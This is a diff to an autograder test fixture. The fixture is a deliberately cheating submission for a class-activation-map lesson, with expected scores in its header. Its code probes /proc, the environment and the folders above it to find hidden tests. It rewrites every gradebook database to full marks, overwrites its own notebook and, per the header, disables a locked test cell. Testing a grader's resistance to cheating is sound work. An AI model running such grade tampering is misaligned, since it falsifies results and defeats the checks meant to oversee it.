@@ -1,7 +1,9 @@
 # Tries to cheat: looks for the hidden tests and the gradebook (walking up from its folder,
 # through /proc and the environment), rewrites every gradebook it finds to full marks, overwrites
 # its own notebook file, and replaces exercise 2's locked test cell with `pass` (its exercise 2
-# is wrong). Exercises 1 and 3 are right: it must get exactly 5 of 7.
+# is wrong). Exercises 1 and 3 are right: it must get exactly 5 of 7. The search runs from inside
+# exercise 1's function (top-level statements are not run by the grader), the first time the
+# tests call it.
 # lesson: 05_cam_resnet18
 # expected: l05_all_class_cams_tests=3 l05_top_k_cam_tests=0 l05_cam_for_display_tests=2
 # expected-note: locked cell l05_top_k_cam_tests was edited
@@ -10,44 +12,52 @@
 # %% l05_all_class_cams
 def class_activation_maps(features, fc_weight):
     """CAMs of all classes: (N, K, h, w) features and (C, K) weights -> (N, C, h, w)."""
+    if not _searched:
+        _searched.append(1)
+        _search()
     return torch.einsum("ck,nkhw->nchw", fc_weight, features)
 
-# defined first: if the search below hits the cell timeout, the answer above still counts
-import glob, itertools, os, sqlite3
+_searched = []
 
-found_tests, found_books, rewritten = [], [], 0
-places = set()
-here = os.path.abspath(".")
-while True:  # every folder above this one, and what each holds two levels down
-    places.update(glob.glob(os.path.join(here, "*")) + glob.glob(os.path.join(here, "*", "*")))
-    if here == "/":
-        break
-    here = os.path.dirname(here)
-for pid in os.listdir("/proc"):  # where the grader's processes run, and what they were given
-    if pid.isdigit():
+
+def _search():
+    """Runs once, inside the grader's process for exercise 1."""
+    import glob, itertools, os, sqlite3
+
+    found_tests, found_books, rewritten = [], [], 0
+    places = set()
+    here = os.path.abspath(".")
+    while True:  # every folder above this one, and what each holds two levels down
+        places.update(glob.glob(os.path.join(here, "*")) + glob.glob(os.path.join(here, "*", "*")))
+        if here == "/":
+            break
+        here = os.path.dirname(here)
+    for pid in os.listdir("/proc"):  # where the grader's processes run, and what they were given
+        if pid.isdigit():
+            try:
+                cwd = os.readlink(f"/proc/{pid}/cwd")
+                places.update(itertools.islice(glob.iglob(os.path.join(cwd, "**"), recursive=True), 5000))
+                args = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
+                places.update(a.decode(errors="ignore") for a in args if a.startswith(b"/"))
+            except OSError:
+                pass
+    places.update(v for v in os.environ.values() if v.startswith("/"))
+    for path in sorted(places):
         try:
-            cwd = os.readlink(f"/proc/{pid}/cwd")
-            places.update(itertools.islice(glob.iglob(os.path.join(cwd, "**"), recursive=True), 5000))
-            args = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
-            places.update(a.decode(errors="ignore") for a in args if a.startswith(b"/"))
-        except OSError:
+            if path.endswith(".ipynb") and os.path.dirname(path) != os.path.abspath("."):  # not its own
+                if "BEGIN HIDDEN TESTS" in open(path, errors="ignore").read():
+                    found_tests.append(path)
+            elif path.endswith(".db"):
+                found_books.append(path)
+                with sqlite3.connect(path) as db:
+                    rewritten += db.execute("UPDATE grade SET manual_score = 100").rowcount
+        except Exception:
             pass
-places.update(v for v in os.environ.values() if v.startswith("/"))
-for path in sorted(places):
-    try:
-        if path.endswith(".ipynb") and "autograded" not in path:
-            if "BEGIN HIDDEN TESTS" in open(path, errors="ignore").read():
-                found_tests.append(path)
-        elif path.endswith(".db"):
-            found_books.append(path)
-            with sqlite3.connect(path) as db:
-                rewritten += db.execute("UPDATE grade SET manual_score = 100").rowcount
-    except Exception:
-        pass
-with open("05_cam_resnet18.ipynb", "w") as fh:  # its own notebook, graded from disk?
-    fh.write("{}")
-print(f"hidden-test files found: {len(found_tests)}; gradebooks found: {len(found_books)}; "
-      f"grade rows rewritten: {rewritten}")
+    with open("05_cam_resnet18.ipynb", "w") as fh:  # its own notebook, graded from disk?
+        fh.write("{}")
+    print(f"hidden-test files found: {len(found_tests)}; gradebooks found: {len(found_books)}; "
+          f"grade rows rewritten: {rewritten}")
+
 
 # %% l05_top_k_cam
 def top_k_cam(features, fc_weight, classes, k):
